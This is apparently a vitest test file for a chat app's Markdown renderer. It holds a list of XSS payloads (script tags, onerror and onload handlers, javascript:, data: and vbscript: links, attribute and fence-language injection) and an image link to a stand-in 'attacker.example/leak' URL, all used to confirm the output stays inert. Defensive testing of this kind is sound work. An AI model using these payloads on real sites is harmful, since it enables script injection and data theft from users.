import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './render';

function toDom(markdown: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = renderMarkdown(markdown);
  return container;
}

/** Everything that could run code or load something: asserts none of it survived. */
function expectInert(container: HTMLElement): void {
  expect(container.querySelectorAll('script, iframe, object, embed, svg, math, img, style, link, meta, form, base, frame, frameset').length).toBe(0);
  for (const element of Array.from(container.querySelectorAll('*'))) {
    for (const attribute of Array.from(element.attributes)) {
      expect(attribute.name.toLowerCase().startsWith('on'), `${element.tagName} has ${attribute.name}`).toBe(false);
      expect(['src', 'srcdoc', 'style', 'formaction', 'xlink:href', 'action']).not.toContain(attribute.name.toLowerCase());
      if (attribute.name === 'href') {
        expect(attribute.value).toMatch(/^(https?:|mailto:)/i);
      }
    }
  }
}

describe('renderMarkdown', () => {
  it('renders common Markdown', () => {
    const dom = toDom('# Title\n\nSome **bold**, _em_, `code` and [a link](https://example.com).\n\n- one\n- two\n\n1. first\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(dom.querySelector('h1')?.textContent).toBe('Title');
    expect(dom.querySelector('strong')?.textContent).toBe('bold');
    expect(dom.querySelector('em')?.textContent).toBe('em');
    expect(dom.querySelector('p code')?.textContent).toBe('code');
    expect(dom.querySelectorAll('ul li')).toHaveLength(2);
    expect(dom.querySelector('ol li')?.textContent).toBe('first');
    expect(dom.querySelector('blockquote')).not.toBeNull();
    expect(dom.querySelectorAll('td')).toHaveLength(2);
  });

  it('opens links in a new tab without giving the page a handle on ChatBot', () => {
    const link = toDom('[docs](https://example.com/docs)').querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://example.com/docs');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  });

  it('highlights fenced code and adds a copy button', () => {
    const dom = toDom('```ts\nconst answer: number = 42; // yes\n```');
    const block = dom.querySelector('.code-block')!;
    expect(block.querySelector('.code-lang')?.textContent).toBe('ts');
    expect(block.querySelector('button[data-copy-code]')?.textContent).toBe('Copy code');
    const code = block.querySelector('pre code')!;
    expect(code.className).toContain('hljs');
    expect(code.querySelector('.hljs-keyword')?.textContent).toBe('const');
    expect(code.textContent).toBe('const answer: number = 42; // yes\n'.trimEnd());
  });

  it('leaves code in unknown languages plain but escaped', () => {
    const dom = toDom('```nosuchlang\n<b>not bold</b>\n```');
    expect(dom.querySelector('pre code')?.textContent).toBe('<b>not bold</b>');
    expect(dom.querySelector('pre b')).toBeNull();
  });

  it('renders an unclosed fence while an answer is still streaming', () => {
    const dom = toDom('Here:\n\n```python\nprint("hi")');
    expect(dom.querySelector('pre code')?.textContent).toContain('print("hi")');
  });

  it('shows raw HTML as text instead of parsing it', () => {
    const dom = toDom('Press <kbd>Ctrl</kbd> and <b>go</b>');
    expect(dom.querySelector('kbd, b')).toBeNull();
    expect(dom.textContent).toContain('<kbd>Ctrl</kbd>');
  });

  it('turns images into links so an answer cannot make the browser fetch a URL', () => {
    const dom = toDom('![secret](https://attacker.example/leak?q=data)');
    expect(dom.querySelector('img')).toBeNull();
    expect(dom.querySelector('a')?.getAttribute('href')).toBe('https://attacker.example/leak?q=data');
  });

  const payloads: [string, string][] = [
    ['script tag', '<script>window.__xss = 1</script>'],
    ['script in a paragraph', 'Hello <script>window.__xss = 1</script> world'],
    ['img onerror', '<img src=x onerror="window.__xss = 1">'],
    ['inline img onerror', 'look: <img src=x onerror=alert(1)> here'],
    ['svg onload', '<svg onload=alert(1)><circle r=1 /></svg>'],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['javascript link', '[click me](javascript:alert(1))'],
    ['mixed-case javascript link', '[click](JaVaScRiPt:alert(1))'],
    ['entity-encoded javascript link', '[click](&#106;avascript:alert(1))'],
    ['javascript link with whitespace', '[click]( javascript:alert(1) )'],
    ['javascript autolink', '<javascript:alert(1)>'],
    ['data URL link', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['vbscript link', '[click](vbscript:msgbox(1))'],
    ['javascript image', '![x](javascript:alert(1))'],
    ['reference link', '[click][x]\n\n[x]: javascript:alert(1)'],
    ['raw anchor', '<a href="javascript:alert(1)">click</a>'],
    ['fence language injection', '```"><img src=x onerror=alert(1)>\ncode\n```'],
    ['fence language with script', '```<script>alert(1)</script>\ncode\n```'],
    ['link title injection', '[x](https://example.com "a\\" onmouseover=\\"alert(1)")'],
    ['style tag', '<style>body{display:none}</style>'],
    ['form action', '<form action="javascript:alert(1)"><button>go</button></form>'],
    ['details ontoggle', '<details open ontoggle=alert(1)>'],
    ['html comment breakout', '<!--><img src=x onerror=alert(1)>-->'],
  ];

  it.each(payloads)('keeps a %s inert', (_name, payload) => {
    const dom = toDom(payload);
    expectInert(dom);
    expect((window as unknown as { __xss?: number }).__xss).toBeUndefined();
  });

  it('keeps payloads inert inside larger answers and lists', () => {
    const dom = toDom(payloads.map(([, p]) => `- ${p}`).join('\n') + '\n\n' + payloads.map(([, p]) => p).join('\n\n'));
    expectInert(dom);
  });
});
